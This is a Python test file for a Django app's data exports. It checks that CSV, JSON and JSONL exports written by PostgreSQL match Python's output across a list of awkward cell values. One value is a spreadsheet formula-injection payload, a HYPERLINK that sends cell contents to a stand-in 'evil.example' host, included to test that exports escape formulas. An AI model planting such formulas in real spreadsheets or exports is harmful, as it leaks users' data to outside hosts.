"""On PostgreSQL the database writes each line of a large CSV export (apps/core/export_sql.py):
the file is the one Python writes, byte for byte, on the demo data and on awkward values; and
each object of the JSON exports, the same JSON as Python's."""

import datetime
import json

import pytest
from django.db import connection

from apps.contracts.exports import ContractExport
from apps.contracts.models import Contract, Nda
from apps.core.models import Visibility
from apps.core.partial_dates import DatePrecision
from apps.deployments.exports import DeploymentExport
from apps.deployments.models import Deployment, DeploymentCitation
from tests.factories import (
    AgencyFactory,
    ContractFactory,
    DeploymentFactory,
    NdaFactory,
    ProductFactory,
    SourceFactory,
    VendorFactory,
)

on_postgresql = pytest.mark.skipif(
    connection.vendor != "postgresql", reason="PostgreSQL writes the lines only there"
)

# Values that each rule of the cells acts on: a spreadsheet formula, the CSV's own quoting
# characters, list separators, a plain negative number (left alone) and one in other digits
# (Python's \d reads them as digits too), text that is not ASCII, empty text.
AWKWARD = [
    '=HYPERLINK("https://evil.example/?"&A2,"x")',
    "+1+1",
    "@SUM(A1)",
    "-1+2",
    "-122.989827",
    "-\u0661\u0662",
    "-\u0661.",
    "\tcell",
    "\rcell",
    "a line\nand another",
    "a line\r\nand another",
    "'=1+1",
    "'",
    "-",
    'He said "no", twice',
    "Report | Example News",
    "x||y",
    "|",
    "Überwachung — “quoted” 監視",
    " leading and trailing space ",
    "",
]


def awkward_registry():
    """Deployments whose every text column holds one of AWKWARD, with unknown and partial
    dates, no vendor, no coordinates, and several sources each (some unpublished) whose
    URLs sort differently by code point than by the database's collation."""
    parent = VendorFactory(name="=Parent, Inc.")
    for index, value in enumerate(AWKWARD):
        agency = AgencyFactory(
            name=f"{value} agency {index}",
            locality=value,
            region="",
            ori="" if index % 2 else f"OR{index:07d}",
            latitude=None if index % 3 else "-45.523100",
            longitude=None if index % 3 else "-122.676500",
        )
        deployment = DeploymentFactory(
            agency=agency,
            summary=value,
            start_date=None if index % 4 == 0 else datetime.date(2000 + index, 1 + index % 12, 9),
            start_date_precision=["", DatePrecision.YEAR, DatePrecision.MONTH, DatePrecision.DAY][
                index % 4
            ],
            end_date=datetime.date(2024, 2, 29) if index % 5 == 0 else None,
            end_date_precision="" if index % 10 else DatePrecision.DAY,
        )
        if index % 6 == 0:
            deployment.vendor, deployment.product = None, None
            deployment.save()
        elif index % 6 == 1:
            deployment.vendor.parent = parent
            deployment.vendor.save()
            NdaFactory(agency=agency, counterparty_vendor=parent)
        sources = [
            SourceFactory(
                url=f"https://a.example.org/{letter}/{index}?q=1,2",
                title=f"{value} {letter}",
                publisher=value,
                publication_date=None if letter == "a" else datetime.date(2019, 12, 31),
                publication_date_precision=DatePrecision.MONTH if letter == "B" else "",
            )
            for letter in ("a", "B", "_", "é")
        ]
        SourceFactory(url=f"https://a.example.org/0/{index}", visibility=Visibility.PENDING)
        for number, source in enumerate(sources):
            DeploymentCitation.objects.create(
                deployment=deployment,
                source=source,
                page=None if number % 2 else number + 1,
                quote=value if number == 1 else "",
            )
        contracts = ContractFactory.create_batch(
            1 + index % 2,
            agency=agency,
            title=f"{value} contract",
            identifier=value,
            funding_source=value,
            summary=value,
            amount=None if index % 3 else "1234567.50",
            signed_date=None if index % 4 == 1 else datetime.date(2018, 3, 4),
            sources=sources[: index % 3],
        )
        for contract in contracts:
            contract.deployments.add(deployment)
            contract.products.add(
                ProductFactory(name=value or "Zeta"),
                ProductFactory(name="Émile"),
                ProductFactory(name="alpha", visibility=Visibility.PENDING),
            )
    ContractFactory(visibility=Visibility.PENDING).deployments.add(Deployment.objects.first())


def export_bytes(client, query, *, in_database, fmt="csv", kind="deployments"):
    """The export of `kind` for `query` in `fmt`, written by PostgreSQL or in Python."""
    export = {"deployments": DeploymentExport, "contracts": ContractExport}[kind]
    cells, objects = export.sql_cells, export.sql_json
    if not in_database:
        export.sql_cells = export.sql_json = lambda self: None
    try:
        response = client.get(f"/{kind}/export.{fmt}?{query}")
        assert response.status_code == 200
        return b"".join(response.streaming_content)
    finally:
        export.sql_cells, export.sql_json = cells, objects


def json_results(written):
    return json.loads(written)["results"]


@on_postgresql
@pytest.mark.django_db
@pytest.mark.parametrize("query", ["", "sort=status", "sort=start", "sort=-agency", "q=agency"])
def test_postgresql_writes_the_file_python_writes(client, seeded, query):
    awkward_registry()
    written = export_bytes(client, query, in_database=True)
    assert written == export_bytes(client, query, in_database=False)
    # The demo data and the awkward values are all there (a search selects some), and
    # quoting did happen.
    if not query.startswith("q="):
        assert written.count(b"\r\n") > Deployment.objects.published().count()
    assert b'"He said ""no"", twice"' in written
    assert b"'=HYPERLINK" in written and b",-\xd9\xa1\xd9\xa2," in written


@on_postgresql
@pytest.mark.django_db
@pytest.mark.parametrize("query", ["", "sort=-amount", "sort=vendor"])
def test_postgresql_writes_the_contracts_file_python_writes(client, seeded, query):
    awkward_registry()
    written = export_bytes(client, query, in_database=True, kind="contracts")
    assert written == export_bytes(client, query, in_database=False, kind="contracts")
    assert written.count(b"\r\n") > Contract.objects.published().count()
    assert b"alpha" not in written and "; Émile".encode() in written


@on_postgresql
@pytest.mark.django_db
@pytest.mark.parametrize("query", ["", "sort=-agency"])
def test_postgresql_writes_the_json_python_writes(client, seeded, query):
    # The same JSON: PostgreSQL spaces it and escapes non-ASCII text its own way.
    awkward_registry()
    written = json_results(export_bytes(client, query, in_database=True, fmt="json"))
    assert written == json_results(export_bytes(client, query, in_database=False, fmt="json"))
    assert len(written) == Deployment.objects.published().count()
    lines = export_bytes(client, query, in_database=True, fmt="jsonl").decode().splitlines()
    assert [json.loads(line) for line in lines] == written


@on_postgresql
@pytest.mark.django_db
def test_every_rule_holds_on_postgresql_without_the_demo_data(client):
    awkward_registry()
    assert Nda.objects.exists()
    assert export_bytes(client, "", in_database=True) == export_bytes(client, "", in_database=False)
